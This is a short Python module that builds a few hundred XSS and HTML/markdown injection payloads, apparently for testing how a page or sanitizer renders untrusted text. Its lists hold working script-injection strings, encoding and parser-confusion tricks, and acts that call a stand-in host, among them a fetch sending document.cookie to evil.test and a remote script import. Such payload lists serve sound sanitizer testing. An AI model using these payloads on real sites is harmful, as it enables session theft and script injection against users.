"""Texts that try to act when a page shows them: a few hundred, made of carriers and what they carry."""

from __future__ import annotations

from collections.abc import Iterator

_ACTS = (
    "alert(1)",
    "fetch('http://evil.test/'+document.cookie)",
    "import('http://evil.test/x.js')",
    "location='http://evil.test'",
)
_RAW = (
    "<script>{act}</script>",
    "<ScRiPt src=http://evil.test/x.js></sCrIpT>",
    "<img src=x onerror={act}>",
    "<img src=http://evil.test/p.png>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
    "<iframe src=javascript:{act}></iframe>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<object data=http://evil.test/x></object>",
    "<embed src=http://evil.test/x>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=prefetch href=http://evil.test/x>",
    "<style>@import 'http://evil.test/x.css'; body{{background:url(http://evil.test)}}</style>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<form action=http://evil.test><input name=q><button>Go</button></form>",
    "<button formaction=http://evil.test>Go</button>",
    "<a href='javascript:{act}'>x</a>",
    "<a href='&#106;avascript:{act}'>x</a>",
    "<a href='java\tscript:{act}'>x</a>",
    "<a href=//evil.test ping=http://evil.test>x</a>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<audio src=http://evil.test/a.mp3 autoplay>",
    "<input autofocus onfocus={act}>",
    "<body onload={act}>",
    "<div style='background:url(http://evil.test/x)'>x</div>",
    "<p id=main onclick={act}>x",
    "<template><script>{act}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<!--><script>{act}</script-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<?xml version='1.0'?><script>{act}</script>",
    '"><script>{act}</script>',
    "'><img src=x onerror={act}>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "</script><script>{act}</script>",
    "</article></main><script>{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;img src=x onerror={act}&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "{{{{ 7*7 }}}} {{% for x in y %}} ${{{act}}} #{{{act}}}",
    "\u2028<script>{act}</script>\u2029",
    "<scr\u0000ipt>{act}</scr\u0000ipt>",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "\u202e<img src=x onerror={act}>",
    "<img src=x:x onerror\n=\n{act}>",
    "<img/src=x/onerror={act}>",
    "<x contenteditable onblur={act}>x",
    "<img srcset='http://evil.test/a 1x'>",
    "<image href=http://evil.test/x>",
    "<table background=http://evil.test/x><td>",
    "<portal src=http://evil.test>",
    "<a class=cite href=http://evil.test data-panel=source>1</a>",
)
_MARKDOWN = (
    "![x](http://evil.test/x.png)",
    "![x][r]\n\n[r]: http://evil.test/x.png",
    "[x](javascript:{act})",
    "[x](http://evil.test)",
    "[x](<javascript:{act}>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.test)",
    "[x][r]\n\n[r]: javascript:{act}",
    "<http://evil.test>",
    "<javascript:{act}>",
    "http://evil.test/bare www.evil.test",
    "[![x](http://evil.test/a.png)](http://evil.test)",
    "[1](http://evil.test)",
    "[1]: http://evil.test 'x'\n\n[1]",
    "[1]<img src=x onerror={act}>",
    "\ue0001\ue001 \ue000<img src=x>\ue001",
    "```html\n<script>{act}</script>\n```",
    "`<img src=x onerror={act}>`",
    "| a | <img src=x onerror={act}> |\n|:-|-:|\n| [x](javascript:{act}) | ![y](http://evil.test) |",
    "# <script>{act}</script>",
    "> <iframe src=http://evil.test>",
    "1. <svg onload={act}>\n2. [x](javascript:{act})",
    "*<b onmouseover={act}>x</b>*",
    '[x]( "onmouseover={act}")',
    '![x](x "" onerror={act})',
    '<a href="x\n\n" onclick={act}>',
    "[a]: <javascript:{act}>\n[a]",
    "~~<img src=x onerror={act}>~~",
    "\\<script>{act}\\</script>",
)


def payloads() -> Iterator[str]:
    """Give every payload once."""
    seen: set[str] = set()
    for act in _ACTS:
        for raw in (*_RAW, *_MARKDOWN):
            text = raw.format(act=act)
            for carried in (text, f"Backups [1] {text} are kept.", f"- **{text}**\n- [2]"):
                if carried not in seen:
                    seen.add(carried)
                    yield carried
